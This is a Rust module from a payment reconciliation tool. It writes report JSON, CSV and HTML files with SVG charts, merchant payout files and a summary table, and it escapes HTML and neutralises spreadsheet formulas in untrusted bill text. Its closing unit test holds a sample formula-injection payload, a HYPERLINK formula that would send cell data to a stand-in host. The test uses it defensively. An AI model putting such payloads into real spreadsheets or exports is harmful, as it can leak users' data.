//! Run reports on disk: per account and day `report.json`, `items.csv` and `report.html` (counts and
//! amounts by class as server-rendered SVG bar charts, `plotters` with only its SVG backend), a day
//! index `reports/<day>/index.html` (net by channel account), and merchants' payout CSV files.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use anyhow::Context;
use chrono::NaiveDate;
use paymux_model::ChannelAccountId;
use plotters::prelude::*;
use uuid::Uuid;

use super::{AccountReport, DayReport, MerchantSettlement};

pub fn account_dir(data_dir: &Path, day: NaiveDate, account: ChannelAccountId) -> PathBuf {
    data_dir
        .join("reports")
        .join(day.to_string())
        .join(account.to_string())
}

pub fn payout_path(data_dir: &Path, day: NaiveDate, merchant: Uuid) -> PathBuf {
    data_dir
        .join("payouts")
        .join(day.to_string())
        .join(format!("{merchant}.csv"))
}

/// A CSV field, quoted when it has to be.
fn csv_field(s: &str) -> String {
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// A text field from a channel's bill (untrusted): one a spreadsheet would read as a formula
/// (`=`, `+`, `-`, `@`, tab, carriage return first) is prefixed with `'` and quoted.
fn csv_text(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else {
        csv_field(s)
    }
}

fn opt<T: ToString>(v: &Option<T>) -> String {
    v.as_ref().map(|v| v.to_string()).unwrap_or_default()
}

/// Writes a file whole (to a temporary name first, so a reader never sees half of it).
fn write_atomic(path: &Path, bytes: &[u8]) -> anyhow::Result<()> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).with_context(|| format!("create {}", dir.display()))?;
    }
    let tmp = path.with_extension("tmp");
    std::fs::write(&tmp, bytes).with_context(|| format!("write {}", tmp.display()))?;
    std::fs::rename(&tmp, path).with_context(|| format!("rename to {}", path.display()))?;
    Ok(())
}

pub fn items_csv(r: &AccountReport) -> String {
    let mut out = String::from(
        "class,kind,out_trade_no,out_refund_no,channel_trade_no,platform_amount_minor,channel_amount_minor,\
         platform_status,channel_fee_minor,expected_fee_minor,resolution,resolved_by\n",
    );
    for i in &r.items {
        let fields = [
            i.class.clone(),
            i.kind.clone(),
            i.out_trade_no.clone(),
            opt(&i.out_refund_no),
            opt(&i.channel_trade_no),
            opt(&i.platform_amount_minor),
            opt(&i.channel_amount_minor),
            opt(&i.platform_status),
            opt(&i.channel_fee_minor),
            opt(&i.expected_fee_minor),
            i.resolution.clone(),
            opt(&i.resolved_by),
        ];
        // Numbers stay as they are (a negative amount starts with `-`); the texts are neutralised.
        let line: Vec<String> = fields
            .iter()
            .enumerate()
            .map(|(n, f)| {
                if (2..=4).contains(&n) {
                    csv_text(f)
                } else {
                    csv_field(f)
                }
            })
            .collect();
        out.push_str(&line.join(","));
        out.push('\n');
    }
    out
}

/// `report.json`, `items.csv` and `report.html` of one account and day.
pub fn write_account(dir: &Path, r: &AccountReport) -> anyhow::Result<()> {
    write_atomic(&dir.join("report.json"), &serde_json::to_vec_pretty(r)?)?;
    write_atomic(&dir.join("items.csv"), items_csv(r).as_bytes())?;
    write_atomic(&dir.join("report.html"), account_html(r)?.as_bytes())?;
    Ok(())
}

/// A vertical bar chart as an SVG document (integer values: counts, or amounts in fen).
pub fn bar_chart(title: &str, labels: &[String], values: &[i64]) -> anyhow::Result<String> {
    let mut svg = String::new();
    {
        let root = SVGBackend::with_string(&mut svg, (720, 360)).into_drawing_area();
        root.fill(&WHITE).map_err(|e| anyhow::anyhow!("{e}"))?;
        let n = labels.len().max(1);
        let max = values.iter().copied().max().unwrap_or(0).max(1);
        let min = values.iter().copied().min().unwrap_or(0).min(0);
        let mut chart = ChartBuilder::on(&root)
            .caption(title, ("sans-serif", 18))
            .margin(12)
            .x_label_area_size(40)
            .y_label_area_size(70)
            .build_cartesian_2d((0..n).into_segmented(), min..max + max / 10 + 1)
            .map_err(|e| anyhow::anyhow!("{e}"))?;
        chart
            .configure_mesh()
            .disable_x_mesh()
            .x_labels(n)
            .x_label_formatter(&|v| match v {
                SegmentValue::CenterOf(i) => labels.get(*i).cloned().unwrap_or_default(),
                _ => String::new(),
            })
            .draw()
            .map_err(|e| anyhow::anyhow!("{e}"))?;
        chart
            .draw_series(
                Histogram::vertical(&chart)
                    .style(BLUE.mix(0.6).filled())
                    .margin(8)
                    .data(values.iter().enumerate().map(|(i, v)| (i, *v))),
            )
            .map_err(|e| anyhow::anyhow!("{e}"))?;
        root.present().map_err(|e| anyhow::anyhow!("{e}"))?;
    }
    Ok(svg)
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn yuan(fen: i64) -> String {
    let sign = if fen < 0 { "-" } else { "" };
    let a = fen.unsigned_abs();
    format!("{sign}{}.{:02}", a / 100, a % 100)
}

fn account_html(r: &AccountReport) -> anyhow::Result<String> {
    let labels: Vec<String> = r.by_class.iter().map(|c| c.class.clone()).collect();
    let counts: Vec<i64> = r.by_class.iter().map(|c| c.count as i64).collect();
    let amounts: Vec<i64> = r.by_class.iter().map(|c| c.amount_minor).collect();
    let mut h = String::new();
    write!(
        h,
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>Reconciliation {day} {ch}</title>\
         <style>body{{font-family:sans-serif;margin:2em}}table{{border-collapse:collapse}}td,th{{border:1px solid #ccc;padding:2px 6px;text-align:right}}</style></head><body>\
         <h1>Reconciliation of {ch} on {day}</h1><p>status: {st}; bill lines: {cr}; our records: {pr}; channel net: {net} CNY; \
         channel fees: {fees} CNY; receivable residual: {res} CNY; resolved: {resolved}; exceptions: {ex}; carried over: {co}; \
         earlier carry-overs matched: {cm}</p>",
        day = r.day,
        ch = html_escape(&r.channel),
        st = html_escape(&r.status),
        cr = r.channel_records,
        pr = r.platform_records,
        net = yuan(r.channel_net_minor),
        fees = yuan(r.channel_fees_minor),
        res = yuan(r.receivable_residual_minor),
        resolved = r.resolved,
        ex = r.exceptions,
        co = r.carried_over,
        cm = r.carry_overs_matched,
    )?;
    h.push_str(&bar_chart("Items by class", &labels, &counts)?);
    h.push_str(&bar_chart("Amount by class (fen)", &labels, &amounts)?);
    h.push_str("<h2>Items</h2><table><tr><th>class</th><th>kind</th><th>out_trade_no</th><th>out_refund_no</th><th>ours</th><th>channel</th><th>our status</th><th>fee</th><th>expected fee</th><th>resolution</th><th>resolved by</th></tr>");
    for i in &r.items {
        write!(
            h,
            "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td>{}</td></tr>",
            html_escape(&i.class),
            html_escape(&i.kind),
            html_escape(&i.out_trade_no),
            html_escape(&opt(&i.out_refund_no)),
            i.platform_amount_minor.map(yuan).unwrap_or_default(),
            i.channel_amount_minor.map(yuan).unwrap_or_default(),
            html_escape(&opt(&i.platform_status)),
            i.channel_fee_minor.map(yuan).unwrap_or_default(),
            i.expected_fee_minor.map(yuan).unwrap_or_default(),
            html_escape(&i.resolution),
            html_escape(&opt(&i.resolved_by)),
        )?;
    }
    h.push_str("</table></body></html>\n");
    Ok(h)
}

/// One account's line in the day's index, from its `report.json`.
struct IndexRow {
    account: String,
    channel: String,
    status: String,
    net_minor: i64,
    items: usize,
}

/// Every account of the day that has a report on disk (each run writes its own, so a run of one
/// account still indexes the others'), by channel name.
fn day_rows(data_dir: &Path, day: NaiveDate) -> Vec<IndexRow> {
    let dir = data_dir.join("reports").join(day.to_string());
    let mut rows: Vec<IndexRow> = std::fs::read_dir(&dir)
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("report.json")).ok())
        .filter_map(|b| serde_json::from_slice::<serde_json::Value>(&b).ok())
        .map(|v| IndexRow {
            account: v["channel_account_id"]
                .as_str()
                .unwrap_or_default()
                .to_string(),
            channel: v["channel"].as_str().unwrap_or_default().to_string(),
            status: v["status"].as_str().unwrap_or_default().to_string(),
            net_minor: v["channel_net_minor"].as_i64().unwrap_or_default(),
            items: v["items"].as_array().map_or(0, Vec::len),
        })
        .collect();
    rows.sort_by(|a, b| (&a.channel, &a.account).cmp(&(&b.channel, &b.account)));
    rows
}

/// `reports/<day>/index.html`: every account of the day (from the reports on disk), with the nets
/// by channel account, and the day's merchant settlements.
pub fn write_day_index(
    data_dir: &Path,
    day: NaiveDate,
    settlements: &[MerchantSettlement],
) -> anyhow::Result<()> {
    let rows = day_rows(data_dir, day);
    let labels: Vec<String> = rows.iter().map(|a| a.channel.clone()).collect();
    let nets: Vec<i64> = rows.iter().map(|a| a.net_minor).collect();
    let items: Vec<i64> = rows.iter().map(|a| a.items as i64).collect();
    let mut h = String::new();
    write!(
        h,
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>Reconciliation {day}</title></head>\
         <body style=\"font-family:sans-serif;margin:2em\"><h1>Reconciliation of {day}</h1><ul>",
    )?;
    for a in &rows {
        write!(
            h,
            "<li><a href=\"{id}/report.html\">{ch}</a>: {st}, net {net} CNY, {n} items</li>",
            id = html_escape(&a.account),
            ch = html_escape(&a.channel),
            st = html_escape(&a.status),
            net = yuan(a.net_minor),
            n = a.items,
        )?;
    }
    h.push_str("</ul>");
    h.push_str(&bar_chart(
        "Channel net by channel account (fen)",
        &labels,
        &nets,
    )?);
    h.push_str(&bar_chart(
        "Items (not matched) by channel account",
        &labels,
        &items,
    )?);
    if !settlements.is_empty() {
        h.push_str("<h2>Merchant settlements</h2><ul>");
        for s in settlements {
            write!(
                h,
                "<li>{m}: gross {g}, refunds {r}, fees {f}, net {n}, carried {c}, payout {p} CNY</li>",
                m = s.merchant_id,
                g = yuan(s.gross_minor),
                r = yuan(s.refunds_minor),
                f = yuan(s.fees_minor),
                n = yuan(s.net_minor),
                c = yuan(s.carried_minor),
                p = yuan(s.payout_minor),
            )?;
        }
        h.push_str("</ul>");
    }
    h.push_str("</body></html>\n");
    write_atomic(&day_index_path(data_dir, day), h.as_bytes())
}

/// `reports/<day>/index.html` under the data directory.
pub fn day_index_path(data_dir: &Path, day: NaiveDate) -> PathBuf {
    data_dir
        .join("reports")
        .join(day.to_string())
        .join("index.html")
}

/// The payout file of one merchant and day: a header and one line.
pub fn write_payout(path: &Path, s: &MerchantSettlement) -> anyhow::Result<()> {
    let body = format!(
        "settlement_id,merchant_id,day,currency,gross_minor,refunds_minor,fees_minor,net_minor,carried_minor,payout_minor,entry_id\n{},{},{},{},{},{},{},{},{},{},{}\n",
        s.id,
        s.merchant_id,
        s.day,
        s.currency,
        s.gross_minor,
        s.refunds_minor,
        s.fees_minor,
        s.net_minor,
        s.carried_minor,
        s.payout_minor,
        opt(&s.entry_id),
    );
    write_atomic(path, body.as_bytes())
}

/// The summary table `paymux reconcile` prints.
pub fn summary_table(d: &DayReport) -> String {
    let mut out = format!("reconciliation of {}\n", d.day);
    let _ = writeln!(
        out,
        "{:<20} {:>9} {:>8} {:>8} {:>8} {:>8} {:>8} {:>8} {:>12} {:>10} {:>9}",
        "channel",
        "status",
        "matched",
        "no_plat",
        "no_chan",
        "amount",
        "status",
        "fee",
        "net",
        "residual",
        "exception"
    );
    for a in &d.accounts {
        let c = |class| a.count(class);
        use paymux_reconcile::Class::*;
        let _ = writeln!(
            out,
            "{:<20} {:>9} {:>8} {:>8} {:>8} {:>8} {:>8} {:>8} {:>12} {:>10} {:>9}",
            a.channel,
            a.status,
            c(Matched),
            c(MissingOnPlatform),
            c(MissingOnChannel),
            c(AmountMismatch),
            c(StatusMismatch),
            c(FeeMismatch),
            yuan(a.channel_net_minor),
            yuan(a.receivable_residual_minor),
            a.exceptions,
        );
        if let Some(e) = &a.error {
            let _ = writeln!(out, "  error: {e}");
        }
        if let Some(dir) = &a.report_dir {
            let _ = writeln!(out, "  report: {dir}/report.html");
        }
    }
    for s in &d.merchant_settlements {
        let _ = writeln!(
            out,
            "merchant {}: gross {} refunds {} fees {} net {} CNY -> {}",
            s.merchant_id,
            yuan(s.gross_minor),
            yuan(s.refunds_minor),
            yuan(s.fees_minor),
            yuan(s.net_minor),
            s.payout_file.as_deref().unwrap_or("-"),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::{csv_field, csv_text};

    #[test]
    fn bill_texts_that_a_spreadsheet_would_run_are_neutralised() {
        assert_eq!(
            csv_text("=HYPERLINK(\"http://x/?\"&A1,\"ok\")"),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"ok\"\")\""
        );
        for s in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(csv_text(s).starts_with("\"'"), "{s}");
        }
        assert_eq!(
            csv_text("4200000202612034235452147149"),
            "4200000202612034235452147149"
        );
        assert_eq!(csv_text("a,b"), "\"a,b\"");
        assert_eq!(csv_field("-100"), "-100");
    }
}
